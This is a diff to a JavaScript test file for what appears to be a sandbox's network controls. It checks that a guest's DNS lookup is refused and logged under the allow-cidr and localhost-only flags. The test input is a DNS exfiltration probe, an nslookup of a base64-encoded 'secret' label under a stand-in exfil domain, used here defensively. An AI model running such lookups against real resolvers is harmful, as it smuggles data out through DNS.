@@ -72,14 +72,13 @@ test('--allow-host of a name that resolves to 127.0.0.1 does not open the host l
 });
 
 test('--allow-cidr and --outbound-localhost-only: a guest lookup never reaches the upstream resolver', async () => {
-  const cidr = await run(['--allow-cidr', '198.51.100.0/24'], 'nslookup c2VjcmV0.exfil.test; echo status=$?');
-  const local = await run(['--outbound-localhost-only'], 'nslookup c2VjcmV0.exfil.test; echo status=$?');
-  for (const r of [cidr, local]) {
+  for (const flags of [['--allow-cidr', '198.51.100.0/24'], ['--outbound-localhost-only']]) {
+    const r = await run(flags, 'nslookup c2VjcmV0.exfil.test; echo status=$?');
+    expect([flags, hostile.queries]).toEqual([flags, []]);
     expect(r.stdout).toMatch(/REFUSED|NXDOMAIN/);
     expect(r.stdout).toContain('status=1');
     expect(r.stderr).toMatch(/denied dns c2vjcmv0\.exfil\.test/);
   }
-  expect(hostile.queries).toEqual([]);
 });
 
 test('--net: cloud metadata addresses outside 169.254/16 are refused', async () => {
